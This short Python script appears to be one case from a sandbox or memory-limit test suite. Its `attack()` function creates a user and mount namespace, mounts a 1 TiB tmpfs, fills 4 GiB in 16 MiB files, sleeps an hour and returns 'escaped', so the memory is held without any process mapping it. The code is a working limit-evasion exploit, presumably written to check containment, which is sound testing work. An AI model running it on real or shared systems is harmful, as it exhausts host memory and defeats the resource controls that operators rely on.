"""Hold memory in a filesystem of its own: make a user and mount namespace, mount
a 1 TiB tmpfs there and fill 4 GiB of it (256 files of 16 MiB, the file size
limit). No process maps those pages."""

import ctypes
import os
import time

CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
PR_SET_DUMPABLE = 4


def _check(result):
    if result != 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    libc.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)  # own /proc/self again after a uid change
    _check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as f:
            f.write(text)
    os.makedirs("/tmp/hoard", exist_ok=True)
    _check(libc.mount(b"none", b"/tmp/hoard", b"tmpfs", 0, b"size=1T"))
    block = b"\xa5" * (1 << 20)
    for number in range(256):
        with open(f"/tmp/hoard/fill-{number}", "wb") as f:
            for _ in range(16):
                f.write(block)
    time.sleep(3600)
    return "escaped"
